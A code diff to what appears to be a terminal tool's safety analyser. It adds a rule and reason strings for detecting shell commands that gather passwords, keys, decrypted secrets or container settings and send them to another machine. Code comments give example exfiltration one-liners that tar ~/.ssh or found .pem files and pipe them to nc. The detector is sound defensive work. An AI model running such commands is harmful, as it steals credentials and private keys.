@@ -60,7 +60,7 @@ from tui.core.safety.rules.code import executing_kinds
 from tui.core.safety.rules.cores import background_burners
 from tui.core.safety.rules.embedded import subscript_code
 from tui.core.safety.rules.hogs import endless_sources
-from tui.core.safety.rules.network import command_kinds, reads_secret_in
+from tui.core.safety.rules.network import command_kinds, packs_found_keys, reads_secret_in
 from tui.core.safety.rules.resources import (
     busy_cores,
     captured_endless,
@@ -84,6 +84,9 @@ GATHERED_REASONS = {
     "clipboard": "sends what is on the clipboard (often a password) to another machine",
     "capture": "sends this machine's network traffic (it may hold passwords) to another machine",
     "disk": "sends a whole disk's contents to another machine",
+    "settings": "sends a container's settings (its environment often holds passwords) away",
+    "decrypted": "decrypts secrets and sends the plain text to another machine",
+    "search": "searches files for passwords or keys and sends what it finds away",
 }
 # Stages that carry their input to another machine.
 _TAKERS = frozenset({"upload", "network", "send"})
@@ -447,6 +450,8 @@ class Analyser:
                     stage_kinds |= command_kinds(layer) | socket_kinds(layer, self.ctx)
                     if self.ctx.cwd is not None and reads_secret_in(layer, self.ctx.resolve):
                         stage_kinds.add("secret")  # `cd ~/.ssh && tar cz . | nc host 9`
+                    if packs_found_keys(layer):
+                        stage_kinds.add("secret")  # `tar cz $(find ~ -name '*.pem') | nc`
                     if stage_kinds & _TAKERS and strangers.stays_local(layer):
                         stage_kinds.add("local")
                 stage_kinds |= _remote_kinds(code)
